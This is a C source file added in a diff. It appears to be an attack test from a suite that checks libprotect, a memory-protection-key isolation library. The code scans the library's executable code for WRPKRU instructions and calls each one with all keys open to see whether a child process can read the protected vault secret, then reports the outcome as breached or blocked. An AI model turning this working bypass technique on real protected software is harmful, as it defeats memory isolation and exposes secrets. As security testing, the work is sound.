@@ -1,0 +1,52 @@
+/* Every WRPKRU in libprotect's code, called directly with every key open
+ * in eax (and zeros elsewhere), each in a child: does one come back with
+ * the library's key open? */
+#define _GNU_SOURCE
+#include "attack.h"
+
+#include <sys/wait.h>
+#include <unistd.h>
+
+static int try_site(const uint8_t *site)
+{
+    pid_t child = fork();
+    if (child == 0) {
+        __asm__ volatile("xor %%eax, %%eax\n xor %%ecx, %%ecx\n xor %%edx, %%edx\n xor %%edi, %%edi\n"
+                         "xor %%esi, %%esi\n xor %%r8d, %%r8d\n xor %%r9d, %%r9d\n xor %%r10d, %%r10d\n"
+                         "xor %%r11d, %%r11d\n call *%0"
+                         ::"r"(site) : "rax", "rcx", "rdx", "rdi", "rsi", "r8", "r9", "r10", "r11", "memory");
+        uint8_t copy[VAULT_SECRET_LEN];
+        memcpy(copy, vault_address(VAULT_DATA)->secret, sizeof copy);
+        _exit(vault_matches(VAULT_DATA, copy) ? 42 : 0);
+    }
+    int status;
+    waitpid(child, &status, 0);
+    return WIFEXITED(status) && WEXITSTATUS(status) == 42;
+}
+
+int main(void)
+{
+    vault_open();
+    FILE *maps = fopen("/proc/self/maps", "r");
+    char line[512];
+    int sites = 0, opened = 0;
+    while (maps && fgets(line, sizeof line, maps)) {
+        unsigned long lo, hi;
+        char perms[5];
+        if (!strstr(line, "libprotect.so") || sscanf(line, "%lx-%lx %4s", &lo, &hi, perms) != 3 || perms[2] != 'x')
+            continue;
+        for (const uint8_t *p = (const uint8_t *)lo; p + 3 <= (const uint8_t *)hi; p++)
+            if (p[0] == 0x0f && p[1] == 0x01 && p[2] == 0xef) {
+                sites++;
+                opened += try_site(p);
+            }
+    }
+    fflush(stdout);
+    char msg[128];
+    snprintf(msg, sizeof msg, "%d of %d WRPKRUs in libprotect opened the library's key when called", opened, sites);
+    if (opened)
+        breached(msg);
+    if (!sites)
+        blocked("no WRPKRU in libprotect");
+    blocked(msg);
+}
